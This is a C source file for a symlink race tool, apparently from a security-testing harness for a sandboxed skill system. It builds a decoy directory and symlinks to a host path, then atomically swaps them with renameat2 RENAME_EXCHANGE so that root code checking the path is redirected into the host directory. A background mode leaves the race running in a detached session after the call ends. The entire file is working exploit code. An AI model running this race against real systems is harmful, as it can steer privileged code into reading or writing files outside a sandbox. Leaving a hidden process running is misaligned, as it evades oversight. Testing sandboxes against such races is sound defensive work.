/*
 * racer MS MODE HOSTDIR: in the work dir, make a directory d (with a decoy
 * secret, a subdir and 300 files, so that a walker spends time in it)
 * and a symlink s -> HOSTDIR, plus d/sub and d/ssub -> HOSTDIR; then for
 * MS milliseconds atomically exchange d with s and sub with ssub
 * (renameat2 RENAME_EXCHANGE), so that any root code that checks "d is
 * a directory" and then uses the path may land in HOSTDIR. Logs its
 * progress to racer.log. MODE bg: the race goes on in a new session
 * of its own, left behind when the call ends (the entry point itself
 * forks it: no program of the skill's dir is executed); fg: in the call.
 */
#include "attack.h"
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>

static long
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static void
note(long ok, long bad, int e)
{
	FILE *f = fopen("racer.log", "a");

	if (f != NULL) {
		fprintf(f, "swaps=%ld failed=%ld last_error=%s\n", ok, bad,
		    e ? ename(e) : "none");
		fclose(f);
	}
}

int
main(int argc, char *argv[])
{
	long ms = argc > 1 ? atol(argv[1]) : 3000, ok = 0, bad = 0, end, next;
	const char *host = argc > 3 ? argv[3] : "/";
	char name[64];
	int dfd, i, e = 0;
	struct stat st;
	pid_t bg;

	if (argc > 2 && strcmp(argv[2], "bg") == 0) {
		if ((bg = fork()) == -1) {
			say("INFO fork: %s", ename(errno));
			return 1;
		}
		if (bg > 0) {
			usleep(500000);
			say("INFO racer left in the background");
			say("DONE");
			return 0;
		}
		setsid();
		i = open("/dev/null", O_RDWR);
		dup2(i, 0);
		dup2(i, 1);
		dup2(i, 2);
	}

	mkdir("d", 0755);
	mkdir("d/sub", 0755);
	for (i = 0; i < 300; i++) {
		snprintf(name, sizeof(name), "d/f%03d", i);
		close(open(name, O_WRONLY | O_CREAT, 0644));
	}
	{
		FILE *f = fopen("d/secret", "w");
		if (f != NULL) {
			fputs("decoy\n", f);
			fclose(f);
		}
	}
	unlink("s");
	if (symlink(host, "s") == -1 || symlink(host, "d/ssub") == -1)
		say("INFO symlink: %s", ename(errno));
	if ((dfd = open("d", O_RDONLY | O_DIRECTORY)) == -1) {
		say("INFO open d: %s", ename(errno));
		return 1;
	}
	say("INFO racing for %ld ms against %s", ms, host);
	end = now_ms() + ms;
	next = now_ms() + 200;
	while (now_ms() < end) {
		if (renameat2(AT_FDCWD, "d", AT_FDCWD, "s", RENAME_EXCHANGE) ==
		    0)
			ok++;
		else
			bad++, e = errno;
		if (renameat2(dfd, "sub", dfd, "ssub", RENAME_EXCHANGE) == 0)
			ok++;
		else
			bad++, e = errno;
		if (now_ms() >= next) {
			note(ok, bad, e);
			next += 200;
		}
	}
	/* leave d a directory again */
	if (lstat("d", &st) == 0 && S_ISLNK(st.st_mode))
		renameat2(AT_FDCWD, "d", AT_FDCWD, "s", RENAME_EXCHANGE);
	note(ok, bad, e);
	say("INFO swaps %ld, failed %ld, last error %s", ok, bad,
	    e ? ename(e) : "none");
	say("DONE");
	return 0;
}
